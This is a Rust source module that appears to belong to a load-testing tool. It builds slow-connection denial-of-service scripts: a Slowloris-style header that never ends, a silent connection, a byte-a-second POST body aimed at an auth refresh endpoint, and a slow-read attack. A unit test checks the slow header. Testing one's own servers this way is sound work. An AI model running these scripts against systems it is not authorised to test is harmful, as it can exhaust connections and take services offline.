//! Attacks that hold connections by doing next to nothing with them.

use std::time::Duration;

use crate::floods::attack::script::{Protocol, Script};

const SECOND: Duration = Duration::from_secs(1);
/// A header that grows by a byte a second and never ends.
pub(super) fn headers(authority: &str) -> Script {
    let opening = format!("GET / HTTP/1.1\r\nhost: {authority}\r\nx-slow: ").into_bytes();
    Script::new(Protocol::Http1, SECOND, opening, |_| Some(b"a".to_vec()))
}

/// Nothing at all.
pub(super) fn silent(protocol: Protocol) -> Script {
    Script::new(protocol, SECOND, Vec::new(), |_| None)
}

/// A body of 1 MB, a byte a second.
pub(super) fn body(authority: &str) -> Script {
    let head = format!(
        "POST /api/auth/refresh HTTP/1.1\r\nhost: {authority}\r\ncontent-type: application/json\r\ncontent-length: \
         1000000\r\n\r\n"
    );
    Script::new(Protocol::Http1, SECOND, head.into_bytes(), |_| Some(b" ".to_vec()))
}

/// A request a second for some 30 kB, until the buffers between the edge and this reader are full. Later ones can't be
/// answered: they show when the edge has closed the connection behind all that is unread.
pub(super) fn read(authority: &str) -> Script {
    let request = format!("GET /api/vendors?limit=100 HTTP/1.1\r\nhost: {authority}\r\n\r\n").into_bytes();
    Script::new(Protocol::Http1, SECOND, Vec::new(), move |_| Some(request.clone())).reading_slowly()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_slow_header_never_ends() {
        let mut script = headers("localhost:1");
        let sent: Vec<u8> = (0..100).filter_map(|_| script.next()).flatten().collect();
        assert!(!sent.windows(4).any(|window| window == b"\r\n\r\n"));
        assert!(sent.ends_with(b"aaaa"));
    }
}
